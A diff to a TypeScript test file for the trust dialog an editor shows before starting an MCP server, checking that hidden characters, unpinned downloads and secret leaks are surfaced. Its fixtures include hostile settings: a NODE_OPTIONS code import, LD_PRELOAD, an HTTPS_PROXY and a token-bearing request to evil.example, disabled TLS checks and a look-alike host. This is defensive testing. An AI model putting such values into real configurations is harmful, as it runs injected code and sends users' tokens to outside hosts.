@@ -3,11 +3,8 @@ import type { LaunchView } from '../../../../src/config/launchView.ts';
 import type { ResolvedCode, ResolvedFile } from '../../../../src/config/resolvedCode.ts';
 import { analyzeCommandLine } from '../../../../src/config/commandLineAnalysis.ts';
 import { limits } from '../../../../src/base/limits.ts';
-import {
-  type TrustQuestion,
-  trustQuestion,
-  type TrustSubject,
-} from '../../../../src/host/configuration/trustQuestion.ts';
+import type { LaunchSubject } from '../../../../src/host/configuration/launchSummary.ts';
+import { type TrustQuestion, trustQuestion } from '../../../../src/host/configuration/trustQuestion.ts';
 import { fileSource, remoteView, setting, stdioView } from '../../../fixtures/launches.ts';
 
 const source = { ...fileSource, uri: 'file:///w/my%20app/.vscode/mcp.json' };
@@ -31,7 +28,7 @@ function factsOf(line: string, changes: Partial<ResolvedCode> = {}): ResolvedCod
   return { code: analyzeCommandLine(line.split(' ')), ...nothing, ...changes };
 }
 
-function ask(view: LaunchView, changes: Partial<TrustSubject> = {}): TrustQuestion {
+function ask(view: LaunchView, changes: Partial<LaunchSubject> = {}): TrustQuestion {
   return trustQuestion({
     label: 'db',
     lookAlike: undefined,
@@ -46,6 +43,9 @@ function ask(view: LaunchView, changes: Partial<TrustSubject> = {}): TrustQuesti
   });
 }
 
+/** The document, without the breaks that were put into its lines. */
+const unwrapped = ({ text }: TrustQuestion): string => text.replace(/ ↩\n/g, '');
+
 const token = {
   kind: 'environment',
   name: 'GITHUB_TOKEN',
@@ -55,58 +55,95 @@ const token = {
 } as const;
 
 describe('trustQuestion', () => {
-  it('shows the whole command, one argument a line, and what makes it dangerous [consent-command]', () => {
-    const { message, detail, isWhole } = ask(stdio);
-    expect(message).toBe('Start the MCP server “db”? It will run a program on this machine.');
-    expect(isWhole).toBe(true);
-    expect(detail).toBe(
+  it('shows the whole command as it would be typed, and what makes it dangerous [consent-command]', () => {
+    const question = ask(stdio);
+    expect(question.message).toBe('Start the MCP server “db”? It will run a program on this machine.');
+    expect(question).toMatchObject({ isWhole: true, isRisky: true });
+    expect(question.detail).toBe(
       [
-        'Take care:',
-        '• It downloads a b and runs it. No version is pinned: the code can differ from one start to the next.',
+        'Before you start it:',
         '• It holds characters that cannot be seen; they are written as ⟨U+…⟩.',
+        '• It downloads a b and runs it. No version is pinned: the code can differ from one start to the next.',
         '',
-        'Command:',
-        '    npx',
-        '    -y',
-        '    "a b"',
-        '    "x⟨U+202E⟩y"',
-        '    ""',
+        'npx -y "a b" "x⟨U+202E⟩y" ""',
+        'In folder: /w/my app',
+        'Environment file: /w/.env',
         '',
-        'In folder:',
-        '    /w/my app',
-        '',
-        'Environment:',
-        '    TOKEN=•••••••• (written in the file)',
-        '    GONE is removed',
-        '    /w/.env sets A, B',
-        '',
-        'It is told of these workspace folders: /w/my app, any that is added later',
-        'Defined in .vscode/mcp.json, file:///w/my app/.vscode/mcp.json',
+        'Defined in .vscode/mcp.json',
       ].join('\n'),
     );
+    for (const part of [
+      'Command:\n    npx\n    -y\n    "a b"\n    "x⟨U+202E⟩y"\n    ""',
+      'In folder:\n    /w/my app',
+      'Environment:\n    TOKEN=•••••••• (written in the file)\n    GONE is removed\n    /w/.env sets A, B',
+      'It can see these folders: /w/my app, and folders you add later',
+      'Defined in .vscode/mcp.json, file:///w/my app/.vscode/mcp.json',
+    ])
+      expect(unwrapped(question)).toContain(part);
   });
 
-  it('says which workspace folders the server is told of, whatever does not fit [consent-roots]', () => {
+  it('is three lines for a usual server', () => {
     const folder = { name: 'app', uri: '', path: '/w/app' };
-    const inFolder = { ...source, folder };
-    expect(ask(stdio, { source: inFolder }).detail).toContain('folders: /w/my app, any that is added later');
-    const none = ask(stdio, { roots: { folders: [], includesLaterFolders: false } });
-    expect(none.detail).toContain('It is told of no workspace folder.');
+    const view = stdioView(['node', 'server.js'], { cwd: '/w/app', env: [setting('LEVEL', 'high')] });
+    const question = ask(view, { source: { ...source, folder } });
+    expect(question).toMatchObject({
+      detail: 'node server.js\n\nDefined in .vscode/mcp.json',
+      isWhole: true,
+      isRisky: false,
+    });
+    const elsewhere = ask({ ...view, cwd: '/elsewhere' }, { source: { ...source, folder } });
+    expect(elsewhere.detail).toContain('node server.js\nIn folder: /elsewhere');
+  });
+
+  it('names the workspace folders in its details, and first where they are shared with another machine [consent-roots]', () => {
+    const line = 'It can see these folders: /w/my app, and folders you add later';
+    expect(ask(stdio).detail).not.toContain('It can see');
+    expect(unwrapped(ask(stdio))).toContain(line);
+    expect(ask(remote).detail).toContain(line);
+    const none = { folders: [], includesLaterFolders: false };
+    expect(ask(remote, { roots: none }).detail).not.toContain('It can see');
+    expect(unwrapped(ask(remote, { roots: none }))).toContain('It can see no workspace folder.');
+    const personal = { ...source, kind: 'user' as const };
+    const later = { folders: [], includesLaterFolders: true };
+    expect(unwrapped(ask(stdio, { roots: later, source: personal }))).toContain(
+      'It can see these folders: the folders of any other window that uses it',
+    );
     const folders = Array.from({ length: 200 }, (_, index) => `/w/folder\u202E${index}`);
     const many = ask(stdio, { roots: { folders, includesLaterFolders: true } });
-    expect(many.isWhole).toBe(false);
-    expect(many.detail).toContain('It is told of these workspace folders: /w/folder⟨U+202E⟩0, /w/folder⟨U+202E⟩1');
-    expect(many.text.replace(/ ↩\n/g, '')).toContain('/w/folder⟨U+202E⟩199');
+    expect(unwrapped(many)).toContain('/w/folder⟨U+202E⟩199');
+    expect(ask(remote, { roots: { folders, includesLaterFolders: true } }).isWhole).toBe(false);
   });
 
   it('shows the place of a definition as the system writes it', () => {
-    const place = (uri: string): string => ask(stdio, { source: { ...source, uri } }).detail;
+    const place = (uri: string): string => unwrapped(ask(stdio, { source: { ...source, uri } }));
     expect(place('file:///c%3A/w/my%20app/%23%E6%BC%A2/.mcp.json')).toContain(', file:///c:/w/my app/#漢/.mcp.json');
     expect(place('file:///w/100%/.mcp.json')).toContain(', file:///w/100%/.mcp.json');
   });
 
+  it('folds away nothing that runs code or sends data elsewhere, and cuts nothing of it', () => {
+    const code = `--import=data:text/javascript,${'x'.repeat(100)};evil()`;
+    const env = [setting('LEVEL', 'high'), setting('NODE_OPTIONS', code), setting('A', token.reference)];
+    const local = ask({ ...stdio, env, envFileValues: { B: '1', LD_PRELOAD: 'x' }, variables: [token] });
+    expect(local.isRisky).toBe(true);
+    for (const part of [
+      `NODE_OPTIONS=${code}`,
+      'A=${env:GITHUB_TOKEN} (hidden)',
+      'Environment file: /w/.env, which sets LD_PRELOAD',
+      'Hands your environment variable GITHUB_TOKEN to npx a b.',
+    ])
+      expect(local.detail).toContain(part);
+    expect(local.detail).not.toContain('LEVEL');
+    const auth = [setting('issuer', 'https://login.evil.example')];
+    expect(ask({ ...remote, auth }).detail).toContain('Signing in, issuer: https://login.evil.example');
+    const path = 'https://аpple.example//xn--pple-43d.example/mcp';
+    expect(ask({ ...remote, url: path }).detail).toContain('Host: xn--pple-43d.example');
+    const facts = factsOf('task mcp', { uncovered: ['What task builds or runs out of this folder can change.'] });
+    expect(ask(viewOf('task', 'mcp'), { facts }).detail).toContain('• What task builds or runs out of this folder');
+  });
+
   it('hides a key in the arguments, and nothing that runs [consent-command]', () => {
-    const lines = (...line: string[]): string => ask(viewOf(...line)).detail;
+    const lines = (...line: string[]): string => unwrapped(ask(viewOf(...line)));
+    expect(ask(viewOf('npx', 'c7@1.2.3', '--token=hunter2')).detail).toContain('npx c7@1.2.3 "--token=••••••••"');
     const keyed = lines('npx', 'c7@1.2.3', '--api-key', 'ctx7sk-1234', '--token=hunter2');
     expect(keyed).toContain(
       '    --api-key\n    "••••••••" (written in the file)\n    "--token=••••••••" (written in the file)',
@@ -120,7 +157,7 @@ describe('trustQuestion', () => {
     const missing = { ...token, name: 'TICKETS', reference: '${TICKETS}', isMissing: 'kept' } as const;
     const headers = [setting('Authorization', 'Bearer ${TICKETS}')];
     const { detail } = ask({ ...remote, headers, variables: [missing] });
-    expect(detail).toContain('    Authorization: Bearer ${TICKETS} (not set)');
+    expect(detail).toContain('Authorization: Bearer ${TICKETS} (not set)');
     expect(detail).toContain('• Your environment variable TICKETS is not set, so the text ${TICKETS} itself is sent.');
     const other = { ...missing, name: 'B', reference: '${B}' };
     expect(ask({ ...remote, headers, variables: [missing, other] }).detail).toContain(
@@ -129,16 +166,18 @@ describe('trustQuestion', () => {
   });
 
   it('shows what changed', () => {
-    const { message, detail } = ask(stdio, { changes: ['Command: npx → bunx'] });
+    const { message, detail, isRisky } = ask(viewOf('node'), { changes: ['Command: npx → bunx'] });
     expect(message).toContain('has changed since you trusted it');
+    expect(isRisky).toBe(true);
     expect(detail.split('\n').slice(0, 2)).toEqual(['What changed:', '• Command: npx → bunx']);
   });
 
   it('shows the address with its host as the wire has it', () => {
-    const { detail } = ask(remote);
-    expect(detail).toContain('Host: xn--pple-43d.example');
+    const { detail, text } = ask(remote);
+    expect(detail).toContain('http://аpple.example/mcp\nHost: xn--pple-43d.example');
     expect(detail).toContain('not encrypted');
-    expect(detail).toContain('    X: 1');
+    expect(text).toContain('    X: 1');
+    expect(ask(remoteView('https://a.example/mcp', 'a.example')).detail).not.toContain('Host:');
   });
 
   it('shows the path of a socket', () => {
@@ -146,24 +185,24 @@ describe('trustQuestion', () => {
     const view = { ...socket, socketPath: '/run/\u202Ea.sock' };
     const { message, detail } = ask(view);
     expect(message).toBe('Start the MCP server “db”? It will connect to a program on this machine.');
-    expect(detail).toContain('    unix:///run/%E2%80%AEa.sock#/mcp\n    Socket: /run/⟨U+202E⟩a.sock');
+    expect(detail).toContain('unix:///run/%E2%80%AEa.sock#/mcp\nSocket: /run/⟨U+202E⟩a.sock');
     expect(detail).not.toContain('encrypted');
-    const many = Array.from({ length: 100 }, (_, index) => setting(`X-${index}`, '1'));
-    expect(ask({ ...view, headers: many }).detail).toContain('    unix:///run/%E2%80%AEa.sock, at /mcp');
   });
 
   it('says which secret goes where, and never shows it', () => {
     const headers = [setting('Authorization', 'Bearer ${env:GITHUB_TOKEN}')];
     const url = 'https://evil.example/${input:key}';
     const key = { kind: 'input', name: 'key', reference: '${input:key}', isSecret: true, isSaved: true } as const;
-    const { detail } = ask({ ...remote, url, host: 'evil.example', headers, variables: [token, key] });
+    const question = ask({ ...remote, url, host: 'evil.example', headers, variables: [token, key] });
+    const { detail } = question;
     expect(detail).toContain('• Sends your environment variable GITHUB_TOKEN to evil.example.');
     expect(detail).toContain('• Sends the value you saved for the input key to evil.example.');
-    expect(detail).toContain('    Authorization: Bearer ${env:GITHUB_TOKEN} (hidden)');
-    expect(detail).toContain('    https://evil.example/${input:key} (hidden)');
-    expect(detail).toContain('Inputs:\n    key: the value you saved for this server (hidden)');
+    expect(detail).toContain('\nAuthorization: Bearer ${env:GITHUB_TOKEN} (hidden)');
+    expect(detail).toContain('\nhttps://evil.example/${input:key} (hidden)');
+    expect(unwrapped(question)).toContain('Inputs:\n    key: the value you saved for this server (hidden)');
     const local = ask({ ...stdio, args: ['--token=${env:GITHUB_TOKEN}'], variables: [token] });
-    expect(local.detail).toContain('    "--token=${env:GITHUB_TOKEN}" (hidden)');
+    expect(local.detail).toContain('npx "--token=${env:GITHUB_TOKEN}"');
+    expect(local.text).toContain('    "--token=${env:GITHUB_TOKEN}" (hidden)');
   });
 
   it('cuts nothing of a long command in the document, and says in the dialog that there is more', () => {
@@ -171,8 +210,9 @@ describe('trustQuestion', () => {
     const { detail, text, isWhole } = ask(long);
     expect(isWhole).toBe(false);
     for (const arg of long.args) expect(text.replaceAll(' ↩\n', '')).toContain(arg);
-    expect(detail).toContain('300 arguments');
-    expect(detail).toContain('There is more than fits here');
+    expect(detail).toContain('npx argument-0-xxx');
+    expect(detail).toMatch(/x\nand 1 more\n\nDefined in/);
+    expect(detail).toContain('Show the details before you start this server.');
     const lines = ask({ ...stdio, args: ['x'.repeat(5_000)] }).text.split('\n');
     expect(lines.every(({ length }) => length < 70)).toBe(true);
   });
@@ -196,27 +236,29 @@ describe('trustQuestion', () => {
     const program = file('/w/node_modules/.bin/node', { isInFolder: true });
     const script = file('/w/server.js', { realPath: '/elsewhere/x.js', isInFolder: true, isLinkOutOfFolder: true });
     const view = viewOf('node', 'server.js');
-    const uncovered = ['What these files load in turn can change without a question.'];
+    const uncovered = ['Files that these files load are not checked.'];
     const searchedFolders = ['./node_modules/.bin'];
     const facts = factsOf('node server.js', { program, files: [script], searchedFolders, uncovered });
-    const { detail } = ask(view, { facts });
+    const question = ask(view, { facts });
     for (const part of [
       '• It runs the node of this folder, /w/node_modules/.bin/node, and not one of your system.',
       '• PATH leads into this folder (./node_modules/.bin)',
       '• /w/server.js is a link out of this folder, to /elsewhere/x.js.',
-      'A change of these asks again:\n    /w/node_modules/.bin/node\n    /w/server.js → /elsewhere/x.js',
-      'Not covered by your answer:\n• What these files load in turn can change without a question.',
     ])
-      expect(detail).toContain(part);
-    expect(ask(view, { facts, filesMayChange: true }).detail).toContain('• /w/server.js may change.');
+      expect(question.detail).toContain(part);
+    for (const part of [
+      'if any of these files change:\n    /w/node_modules/.bin/node\n    /w/server.js → /elsewhere/x.js',
+      'This approval does not cover:\n• Files that these files load are not checked.',
+    ])
+      expect(unwrapped(question)).toContain(part);
+    expect(question.detail).not.toContain('are not checked');
+    expect(unwrapped(ask(view, { facts, filesMayChange: true }))).toContain('• /w/server.js may change.');
     const pinned = '• x@1.2.3: the version is pinned, that of what it depends on is not.';
-    expect(ask(view, { facts: factsOf('npx x@1.2.3') }).detail).toContain(pinned);
+    expect(unwrapped(ask(view, { facts: factsOf('npx x@1.2.3') }))).toContain(pinned);
     const many = Array.from({ length: 90 }, (_, index) => file(`/w/my app/lib/${index}.js`, { isInFolder: true }));
     const folder = ask(view, { facts: { ...facts, program: undefined, files: many } });
     expect(folder.isWhole).toBe(true);
-    const shown = (text: string): string => text.replace(/ ↩\n/g, '').replaceAll('\\', '/');
-    expect(shown(folder.detail)).toContain('    lib/0.js, lib/1.js, lib/2.js, lib/3.js and 86 more');
-    expect(shown(folder.text)).toContain('lib/88.js, lib/89.js');
+    expect(unwrapped(folder).replaceAll('\\', '/')).toContain('lib/88.js, lib/89.js');
   });
 
   it('lets no padding push out what matters', () => {
@@ -227,13 +269,8 @@ describe('trustQuestion', () => {
       setting('TOKEN', token.reference),
     ];
     const { detail, text, isWhole } = ask({ ...stdio, env, variables: [token] });
-    expect(isWhole).toBe(false);
-    for (const part of [
-      'NODE_TLS_REJECT_UNAUTHORIZED=0',
-      'HTTPS_PROXY=http://evil.example:3128',
-      'GITHUB_TOKEN',
-      '63 environment variables',
-    ]) {
+    expect(isWhole).toBe(true);
+    for (const part of ['NODE_TLS_REJECT_UNAUTHORIZED=0', 'HTTPS_PROXY=http://evil.example:3128', 'GITHUB_TOKEN']) {
       expect(detail).toContain(part);
     }
     expect(text.indexOf('HTTPS_PROXY=')).toBeLessThan(text.indexOf('SETTING_0='));
@@ -262,17 +299,10 @@ describe('trustQuestion', () => {
     expect(message.length).toBeLessThan(200);
   });
 
-  it('warns of nothing that the extension itself has written', () => {
-    const view = { ...viewOf('node', 'demoServer.js'), env: [setting('ELECTRON_RUN_AS_NODE', '1')] };
-    expect(ask(view).detail).toContain('ELECTRON_RUN_AS_NODE=1 (');
-    const demo = { kind: 'demo', uri: undefined, folder: undefined, title: 'Built-in demo server' } as const;
-    expect(ask(view, { source: demo }).detail).not.toContain('Take care');
-  });
-
   it('says first how its label could be taken for another, as every panel with a question does', () => {
     const lookAlike = 'looks like “github”, has Cyrillic letters';
     const line = "• This server's label looks like “github”, has Cyrillic letters.";
-    expect(ask(stdio, { lookAlike }).detail).toMatch(new RegExp(`^Take care:\n${line}`));
+    expect(ask(stdio, { lookAlike }).detail).toMatch(new RegExp(`^Before you start it:\n${line}`));
     const long = { ...stdio, args: Array.from({ length: 500 }, (_, index) => `argument ${index}`) };
     const { detail, text, isWhole } = ask(long, { lookAlike });
     expect(isWhole).toBe(false);
